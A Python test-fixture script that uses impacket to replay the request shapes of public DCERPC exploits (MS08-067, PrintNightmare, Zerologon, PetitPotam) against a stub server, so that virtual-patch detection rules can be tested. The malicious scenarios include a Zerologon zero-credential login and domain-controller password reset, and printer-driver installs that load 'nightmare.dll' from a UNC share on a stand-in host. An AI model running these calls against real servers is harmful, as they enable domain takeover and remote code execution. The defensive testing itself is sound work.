#!/usr/bin/python3
"""Capture helper: impacket DCERPC clients for the DCERPC virtual patches (run by capture.sh).

Usage: rpc_client.py SCENARIO SERVER_IP
Each scenario binds with impacket's dcerpc v5 modules (srvs, rprn, par, nrpc, lsad/lsat; EFSRPC
calls are declared here as in the public PetitPotam PoC: impacket 0.10 has no efsr module) over an
SMB named pipe (SMB2, or SMB1 with `smb1` in the name) or over TCP 49700, and sends the call. The
server (rpc_server.py) faults every call: the request bytes on the wire are what the tests need.
Test fixture tooling only: never part of Tsugi.
"""
import sys

from impacket import smb
from impacket.dcerpc.v5 import lsad, lsat, nrpc, par, rprn, srvs, transport
from impacket.dcerpc.v5.dtypes import LONG, NULL, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.uuid import uuidtup_to_bin

EFSR_LSARPC = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
EFSR_EFSRPC = uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (("FileName", WSTR), ("Flag", LONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    opnum = 4
    structure = (("FileName", WSTR),)


class EfsRpcQueryUsersOnFile(NDRCALL):
    opnum = 6
    structure = (("FileName", WSTR),)


def connect(ip, pipe, uuid, smb1=False, tcp=False, frag=0):
    if tcp:
        t = transport.DCERPCTransportFactory("ncacn_ip_tcp:%s[49700]" % ip)
    else:
        t = transport.DCERPCTransportFactory(r"ncacn_np:%s[\pipe\%s]" % (ip, pipe))
        t.set_credentials("tsugi", "tsugi-test", "", "", "")
        if smb1:
            t.preferred_dialect(smb.SMB_DIALECT)
    dce = t.get_dce_rpc()
    dce.connect()
    if frag:
        dce.set_max_fragment_size(frag)
    dce.bind(uuid)
    return dce


def call(fn, *a):
    try:
        fn(*a)
    except Exception as e:  # the stub server faults every call
        print("  (server answered: %s)" % str(e)[:80])


def driver(data_file, driver_path, config_file):
    c = rprn.DRIVER_CONTAINER()
    c["Level"] = 2
    c["DriverInfo"]["tag"] = 2
    c["DriverInfo"]["Level2"]["cVersion"] = 3
    c["DriverInfo"]["Level2"]["pName"] = "1234\x00"
    c["DriverInfo"]["Level2"]["pEnvironment"] = "Windows x64\x00"
    c["DriverInfo"]["Level2"]["pDriverPath"] = driver_path + "\x00"
    c["DriverInfo"]["Level2"]["pDataFile"] = data_file + "\x00"
    c["DriverInfo"]["Level2"]["pConfigFile"] = config_file + "\x00"
    return c


UNIDRV = "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64_83aa9aebf5dffc96\\Amd64\\UNIDRV.DLL"


def main(sc, ip):
    smb1 = "smb1" in sc
    if sc.startswith("ms08067-"):
        dce = connect(ip, "srvsvc", srvs.MSRPC_UUID_SRVS, smb1=smb1, frag=48 if "frag" in sc else 0)
        if sc.startswith("ms08067-canon"):
            # Metasploit's ms08_067_netapi shape: "\" + padding + "\..\..\" + more.
            r = srvs.NetprPathCanonicalize()
            r["ServerName"] = "\\\\%s\x00" % ip
            r["PathName"] = "\\AAAAAAAAAAAAAAAAAAAA\\..\\..\\BBBBBBBBBBBBBBBBBBBBBBBBBB\x00"
            r["OutbufLen"] = 1000
            r["Prefix"] = "\\\x00"
            r["PathType"] = 1
            r["Flags"] = 0
            call(dce.request, r)
        elif sc.startswith("ms08067-compare"):
            # Forward slashes, a "." component and doubled separators between the two "..".
            r = srvs.NetprPathCompare()
            r["ServerName"] = NULL
            r["PathName1"] = "/xyz/.//..//./../windows/system32\x00"
            r["PathName2"] = "\\windows\x00"
            r["PathType"] = 1
            r["Flags"] = 0
            call(dce.request, r)
        elif sc.startswith("ms08067-benign"):
            call(srvs.hNetrShareEnum, dce, 1)
            call(srvs.hNetrServerGetInfo, dce, 102)
            # A ".." that stays inside the root: must not be blocked.
            r = srvs.NetprPathCanonicalize()
            r["ServerName"] = NULL
            r["PathName"] = "\\public\\docs\\..\\reports\\q3.txt\x00"
            r["OutbufLen"] = 520
            r["Prefix"] = "\x00"
            r["PathType"] = 0
            r["Flags"] = 0
            call(dce.request, r)
    elif sc.startswith("pn-"):
        if "par" in sc:
            dce = connect(ip, "", par.MSRPC_UUID_PAR, tcp=True)
        else:
            dce = connect(ip, "spoolss", rprn.MSRPC_UUID_RPRN, smb1=smb1, frag=64 if "frag" in sc else 0)
        if sc.startswith("pn-unc"):
            # cube0x0 CVE-2021-1675.py: the payload DLL as a UNC data file, flags 0x8014.
            c = driver("\\\\198.18.2.1\\share\\nightmare.dll", UNIDRV, "C:\\Windows\\System32\\winhttp.dll")
            call(rprn.hRpcAddPrinterDriverEx, dce, NULL, c, 0x8014)
        elif sc.startswith("pn-flag"):
            # The second stage of the same PoC: a local path (the copied DLL), still with
            # APD_INSTALL_WARNED_DRIVER; fragmented into small DCERPC fragments.
            c = driver(UNIDRV, UNIDRV, "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\old\\1\\nightmare.dll")
            call(rprn.hRpcAddPrinterDriverEx, dce, "\\\\%s\x00" % ip, c, 0x8010)
        elif sc.startswith("pn-par"):
            # MS-PAR over TCP with forward slashes (Win32 accepts "//host/share").
            c = driver("//198.18.2.1/share/nightmare.dll", UNIDRV, "C:\\Windows\\System32\\kernelbase.dll")
            call(par.hRpcAsyncAddPrinterDriver, dce, "\\\\%s\x00" % ip, c, 0x14)
        elif sc.startswith("pn-benign"):
            call(rprn.hRpcEnumPrinters, dce, rprn.PRINTER_ENUM_LOCAL, NULL, 1)
            call(rprn.hRpcOpenPrinter, dce, "\\\\%s\\OfficePrinter\x00" % ip)
            # An administrator's driver install with files already in the driver directory.
            c = driver("C:\\Windows\\System32\\spool\\drivers\\x64\\3\\officepr.gpd", UNIDRV,
                       "C:\\Windows\\System32\\spool\\drivers\\x64\\3\\UNIDRVUI.DLL")
            call(rprn.hRpcAddPrinterDriverEx, dce, "\\\\%s\x00" % ip, c, 0x14)
    elif sc.startswith("zl-"):
        dce = connect(ip, "netlogon", nrpc.MSRPC_UUID_NRPC, smb1=smb1, tcp="tcp" in sc)
        dc, acct, comp = "\\\\DC01\x00", "DC01$\x00", "DC01\x00"
        if sc.startswith("zl-attack"):
            # Secura's zerologon_tester.py: zero challenge, zero credential, flags 0x212fffff;
            # then set2 with a zero authenticator and an empty password blob.
            call(nrpc.hNetrServerReqChallenge, dce, dc, comp, b"\x00" * 8)
            call(nrpc.hNetrServerAuthenticate3, dce, dc, acct,
                 nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, comp, b"\x00" * 8, 0x212fffff)
            auth = nrpc.NETLOGON_AUTHENTICATOR()
            auth["Credential"] = b"\x00" * 8
            auth["Timestamp"] = 0
            call(nrpc.hNetrServerPasswordSet2, dce, dc, acct,
                 nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, comp, auth, b"\x00" * 516)
        elif sc.startswith("zl-samebytes"):
            # A challenge of eight equal bytes works as well as a zero one (CFB8 with a zero IV turns
            # it into zeros for one key in 256): only the zero credential is essential.
            call(nrpc.hNetrServerReqChallenge, dce, dc, comp, b"\x41" * 8)
            call(nrpc.hNetrServerAuthenticate3, dce, dc, acct,
                 nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, comp, b"\x00" * 8, 0x212fffff)
        elif sc.startswith("zl-setpw"):
            # The password reset alone, on its own binding.
            auth = nrpc.NETLOGON_AUTHENTICATOR()
            auth["Credential"] = b"\x00" * 8
            auth["Timestamp"] = 0
            call(nrpc.hNetrServerPasswordSet2, dce, dc, acct,
                 nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel, comp, auth, b"\x00" * 516)
        elif sc.startswith("zl-benign"):
            call(nrpc.hNetrServerReqChallenge, dce, dc, "WKS7\x00", b"\x8b\x1f\x6a\x02\xd4\x77\x3c\xe9")
            call(nrpc.hNetrServerAuthenticate3, dce, dc, "WKS7$\x00",
                 nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel, "WKS7\x00",
                 b"\x51\xa0\x93\x0e\x7f\x22\xc4\x18", 0x612fffff)
    elif sc.startswith("pp-"):
        if sc.startswith("pp-benign"):
            dce = connect(ip, "lsarpc", lsat.MSRPC_UUID_LSAT, smb1=smb1)
            call(lsad.hLsarOpenPolicy2, dce, lsad.POLICY_LOOKUP_NAMES)
            call(lsat.hLsarLookupNames, dce, b"\x00" * 20, ["Administrator"])
            return
        if "lsarpc" in sc:
            dce = connect(ip, "lsarpc", EFSR_LSARPC, smb1=smb1)
            # topotam's PetitPotam.py: EfsRpcOpenFileRaw on \lsarpc.
            r = EfsRpcOpenFileRaw()
            r["FileName"] = "\\\\198.18.2.1\\test\\Settings.ini\x00"
            r["Flag"] = 0
        else:
            dce = connect(ip, "efsrpc", EFSR_EFSRPC, smb1=smb1, tcp="tcp" in sc)
            # Coercer-style: EfsRpcEncryptFileSrv with a WebDAV-style UNC in the \\?\UNC\ form.
            if "tcp" in sc:
                # Over TCP: EfsRpcQueryUsersOnFile with forward slashes.
                r = EfsRpcQueryUsersOnFile()
                r["FileName"] = "//198.18.2.1/share/a.txt\x00"
            else:
                r = EfsRpcEncryptFileSrv()
                r["FileName"] = "\\\\?\\UNC\\198.18.2.1@80\\x\\file.txt\x00"
        call(dce.request, r)
    else:
        raise SystemExit("unknown scenario " + sc)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
